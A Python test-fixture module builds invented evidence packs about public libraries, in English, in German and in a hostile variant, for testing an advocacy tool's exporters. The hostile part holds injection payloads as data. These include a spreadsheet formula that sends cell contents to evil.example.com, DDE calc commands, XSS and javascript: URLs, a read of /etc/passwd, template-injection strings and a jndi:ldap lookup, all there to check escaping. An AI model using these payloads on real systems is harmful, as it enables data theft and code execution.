"""Evidence packs for the exporters' tests: one in English, one in German, one full of hostile texts.

Every statement is invented. The packs are built by functions, so that a test can build them in another process.
"""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from types import MappingProxyType

from advocacy_monitor.models import Count, EvidencePack, Exhibit, ThemeCount, Use

LONG_WORD = "Bibliotheksliebe" * 313  # 5,008 letters without a blank
LONG_TEXT = "I read, I learn, I meet people. " * 938  # 30,016 characters

HOSTILE = (
    '=HYPERLINK("https://evil.example.com/?q="&A1,"Click")',
    "+49 is not the number. @SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1 in full-width signs; =2+2 after a semicolon\n=3+3 on a new line;-1 and a smiley ;-)",
    "<script>alert('x')</script> & <b>bold</b> ]]> <![CDATA[",
    '#read("/etc/passwd") #eval("1+1") $x^2$ *star* _line_ @label `raw` \\ // comment',
    "{{ 7*7 }} {% for x in ().__class__.__mro__ %} ${jndi:ldap://example.com/a}",
    "Start \u202egnisrever\u202c end \u2066isolate\u2069 \u200f mark",
    "NUL \x00 bell \x07 escape \x1b[31m delete \x7f lone \ud800 private \ue000 none \uffff bom \ufeff",
    "हिन्दी ไทย 한국어 עברית अ Z̷̡̛̹͎͗͊a̷l̴g̶o̸ 👩🏽‍👩‍👧 ❤️ 🇩🇪 1️⃣",
    LONG_WORD,
    LONG_TEXT,
    "",
    " \t\r\n ",
)

_ENGLISH = (
    (
        "en",
        "After my husband died I did not speak to anyone for days. On Thursdays I now go to the reading circle. "
        "[name removed] keeps a chair for me, and that is why I get up on Thursdays.",
        ("loneliness", "events"),
        "Harbour Library",
    ),
    (
        "en",
        "There are five of us in two rooms. The library is the only place where my daughter can do her homework in "
        "quiet, and it is warm.",
        ("study", "warmth"),
        "Eastbrook Library",
    ),
    (
        "de",
        "Ohne die Hilfe am Tresen hätte ich den Antrag auf Wohngeld nie abgeschickt. Die Bibliothekarin hat mir gezeigt, "
        "wie man einen Scan macht.",
        ("help", "digital"),
        "Harbour Library",
    ),
    (
        "ar",
        "تعلمت الإنجليزية هنا مع متطوعة كل يوم سبت، والآن أساعد القادمين الجدد في ملء الاستمارات.",
        ("learning",),
        "Eastbrook Library",
    ),
    ("zh", "我每个星期三带孙女来听故事，她认识的第一批朋友都是在这里认识的。", ("events", "children"), None),
    ("ru", "Здесь мне помогли составить первое резюме, и через месяц я вышла на работу.", ("work",), "Harbour Library"),
    (
        "en",
        "Honestly, the opening hours are useless for anyone with a job. I love the staff, but closed at six is closed.",
        ("hours",),
        "Eastbrook Library",
    ),
)


def exhibit(number: int, text: str, *, language: str = "en", themes: Sequence[str] = (), **rest: object) -> Exhibit:
    """One exhibit with everything filled in; `rest` replaces fields."""
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    made = Exhibit(
        number=number,
        item_id=1000 + number,
        text=text,
        language=language,
        said_on=date(2026, 3 + number % 4, 1 + number % 28),
        collected_on=date(2026, 6, 30),
        verified_on=date(2026, 7, 2) if number % 2 else None,
        source="mastodon" if number % 2 else "Spring survey",
        url=f"https://social.example.org/@reader/{number}" if number % 2 else None,
        attribution="Marie Example" if number == 2 else None,
        library="Harbour Library",
        area="Port Example",
        area_method="form-library",
        themes=tuple(themes),
        consents=(Use.ANALYSE, Use.QUOTE_UNNAMED),
        legal_basis="consent",
        capture_sha256=hashlib.sha256(digest.encode()).hexdigest(),
        text_sha256=digest,
        appearances=number % 3,
    )
    return replace(made, **rest)  # type: ignore[arg-type]  # a test names the fields it replaces


def english_pack(**changes: object) -> EvidencePack:
    """412 statements counted, seven quotes in five languages, eight themes of which some were checked."""
    made = EvidencePack(
        number="AM-2026-0042",
        digest="3f2a9c1b04de7788a1b2c3d4e5f60718293a4b5c6d7e8f901122334455667788",
        title="What the libraries of Port Example mean to the people who use them",
        language="en",
        campaign="Our Library 2026",
        sponsor="Library Association of Exampleland",
        contact="Jo Example, office@example.org, +00 000 000000",
        ask="Keep Harbour Library and Eastbrook Library open on two evenings a week in the 2027 budget.",
        recipient="Dr Alex Example, Member for Port Example",
        sample=False,
        as_of=datetime(2026, 7, 3, 9, 30, tzinfo=UTC),
        period=(date(2026, 3, 1), date(2026, 6, 30)),
        query=MappingProxyType({"title": "Port Example", "areas": ("Port Example",), "since": date(2026, 3, 1)}),
        found=618,
        statements=412,
        appearances=487,
        people=371,
        unverified=3,
        authors_unknown=20,
        left_out=(
            Count(label="not approved", value=61),
            Count(label="no consent for this use", value=57),
            Count(label="reposts and exact copies", value=44),
            Count(label="near copies", value=31),
            Count(label="not about a library", value=13),
        ),
        sources=(
            Count(label="Spring survey", value=214),
            Count(label="mastodon", value=151),
            Count(label="paper flyers", value=47),
        ),
        languages=(
            Count(label="English", value=301),
            Count(label="German", value=48),
            Count(label="Arabic", value=31),
            Count(label="Russian", value=19),
            Count(label="Chinese", value=9),
            Count(label="French", value=None),
        ),
        areas=(
            Count(label="Port Example", value=288),
            Count(label="Upper Example", value=97),
            Count(label="not known", value=27),
        ),
        months=(
            Count(label="2026-03", value=88),
            Count(label="2026-04", value=120),
            Count(label="2026-05", value=131),
            Count(label="2026-06", value=73),
        ),
        themes=_themes(),
        exhibits=tuple(
            exhibit(number, text, language=language, themes=themes, library=library)
            for number, (language, text, themes, library) in enumerate(_ENGLISH, start=1)
        ),
        method=_METHOD,
        smallest_base=30,
        smallest_cell=5,
    )
    return replace(made, **changes)  # type: ignore[arg-type]  # a test names the fields it replaces


def _themes() -> tuple[ThemeCount, ...]:
    def theme(code: str, title: str, statements: int | None, people: int | None, confirmed: int) -> ThemeCount:
        return ThemeCount(code=code, title=title, statements=statements, people=people, confirmed=confirmed)

    return (
        replace(
            theme("loneliness", "Company instead of loneliness", 58, 51, 31),
            precision=0.864,
            recall=0.79,
            checked=120,
            precision_range=(0.78, 0.925),
            recall_range=(0.7, 0.871),
            at_random=True,
        ),
        replace(theme("study", "A quiet place to learn and work", 47, 44, 47), checked=0),
        replace(
            theme("help", "Help from library staff", 44, 41, 12),
            precision=0.91,
            recall=0.83,
            checked=120,
            precision_range=(0.8, 1.0),
            recall_range=(0.714, 0.94),
            at_random=True,
        ),
        replace(theme("children", "Children and families", 39, 35, 0), checked=120, at_random=True),
        theme("digital", "Internet, printing and help with digital things", 28, 26, 0),
        theme("events", "Events and reading groups", 21, 20, 3),
        theme("hours", "Opening hours (criticism)", 17, 17, 0),
        theme("warmth", "A warm room", None, None, 0),
        theme("work", "Finding work", None, None, 0),
        theme("learning", "Learning the language", 8, 8, 0),
    )


_METHOD = (
    ("Who collected", "Library Association of Exampleland."),
    ("What was asked", "In your own words: what does your library mean to you, or what did you miss?"),
    (
        "How people came in",
        "People chose to take part or to post in public. They are not a random sample; the figures describe the "
        "statements counted here and nobody else, so no margin of error is given.",
    ),
    (
        "Channels",
        "Spring survey: 214, mastodon: 151, paper flyers: 47. Collected between 1 March 2026 and 2 July 2026.",
    ),
    (
        "What failed",
        "mastodon failed 2 time(s), last: the server asked to wait. 3 records could not be read; they are kept.",
    ),
    ("Who decided", "Only statements approved by a person and consented for this use are counted or quoted."),
    (
        "Who coded",
        "Themes are suggestions of software (themes@1). A person has coded 93 of the 412 statements; where that "
        "happened, the person's coding is counted. Statements were not double-coded, so no agreement between coders "
        "can be given.",
    ),
    (
        "Copies",
        "Reposts, exact copies and near copies are counted once. People are told apart by account or e-mail address; "
        "one person using several may count more than once.",
    ),
    ("Quotes", "Quotes are verbatim. Words in square brackets stand for personal data or omissions."),
    ("Small numbers", "Counts below 5 are not shown, and no percentages on fewer than 30 statements."),
    (
        "Known bias",
        "People without internet, who do not post in public, or who do not use libraries are under-represented. "
        "Critical statements stay in the counts.",
    ),
)


def german_pack(**changes: object) -> EvidencePack:
    """The same numbers as sample data in German, with umlauts and long words."""
    method = (
        ("Beispieldaten", "Alle Aussagen in dieser Unterlage sind erfunden, um die Software zu zeigen."),
        ("Wer gesammelt hat", "Bibliotheksverband Musterland."),
        ("Was gefragt wurde", "In eigenen Worten: Was bedeutet Ihnen Ihre Bibliothek, was hat Ihnen gefehlt?"),
        (
            "Wie die Aussagen zustande kamen",
            "Die Menschen haben von sich aus mitgemacht oder öffentlich geschrieben. Sie sind keine Zufallsstichprobe; "
            "die Zahlen beschreiben die hier gezählten Aussagen und sonst niemanden.",
        ),
        ("Wege", "Frühjahrsumfrage: 214, mastodon: 151, Papier: 47. Gesammelt vom 1. März 2026 bis 2. Juli 2026."),
        ("Was nicht gelang", "Kein Sammellauf ist gescheitert."),
        ("Kleine Zahlen", "Anzahlen unter 5 werden nicht genannt, Anteile erst ab 30 Aussagen."),
        ("Bekannte Verzerrung", "Menschen ohne Internet oder ohne Bibliothek sind zu wenig vertreten."),
    )
    german: dict[str, object] = {
        "title": "Was die Stadtbibliotheken in Musterhausen den Menschen bedeuten, die sie benutzen",
        "language": "de",
        "campaign": "Unsere Bibliothek 2026",
        "sponsor": "Bibliotheksverband Musterland e. V.",
        "contact": "Jo Muster, kontakt@example.org",
        "ask": "Sichern Sie im Haushalt 2027 zwei Abendöffnungen je Woche für beide Stadtbibliotheken.",
        "recipient": "Dr. Alex Muster, Mitglied des Landtags",
        "sample": True,
        "number": "AM-2026-0043",
        "found": 12618,
        "statements": 12412,
        "people": 11371,
        "left_out": (
            Count(label="nicht freigegeben", value=61),
            Count(label="ohne Einwilligung für diese Verwendung", value=57),
            Count(label="weiterverbreitete Beiträge und genaue Kopien", value=84),
            Count(label="keine Aussage über eine Bibliothek", value=None),
        ),
        "method": method,
        "exhibits": tuple(
            exhibit(
                number, text, language=language, library="Stadtbibliothek Musterhausen-Neustadt", area="Wahlkreis 7"
            )
            for number, (language, text, _, _) in enumerate(sorted(_ENGLISH, key=lambda row: row[0] != "de"), start=1)
        ),
    }
    return english_pack(**(german | changes))


def hostile_pack(**changes: object) -> EvidencePack:
    """Every text field holds something that would do harm if it were run, or break the page if it were trusted."""
    hostile: dict[str, object] = {
        "title": '=1+1 #read("/etc/passwd") <script>alert(1)</script> \u202eevil\x00',
        "campaign": "@SUM(A1) {{7*7}}",
        "sponsor": '"#eval("1")" \ue000',
        "contact": 'javascript:alert(1) #link("javascript:alert(1)")[x]',
        "ask": "+cmd|' /C calc'!A0 " + LONG_WORD,
        "recipient": "-2+3 #panic()",
        "sample": True,
        "left_out": (Count(label="=DDE()", value=3), Count(label=LONG_WORD, value=203)),
        "sources": (Count(label="<svg onload=x>", value=9), Count(label=LONG_WORD, value=None)),
        "themes": (
            ThemeCount(code="=A1", title="</text><script>x</script>&", statements=9, people=8, confirmed=9),
            ThemeCount(code="@B", title=LONG_WORD, statements=7, people=None, confirmed=0),
            ThemeCount(code="+C", title="وحدة 孤独 😀 \x00 हि", statements=6, people=6, confirmed=1),
        ),
        "method": (("=method", LONG_TEXT[:900] + '#read("x")'), ("<b>", LONG_WORD)),
        "exhibits": tuple(
            exhibit(number, text, url="javascript:alert(1)", library="=1+1", area=LONG_WORD, attribution="@me")
            for number, text in enumerate(HOSTILE, start=1)
        ),
    }
    return english_pack(**(hostile | changes))
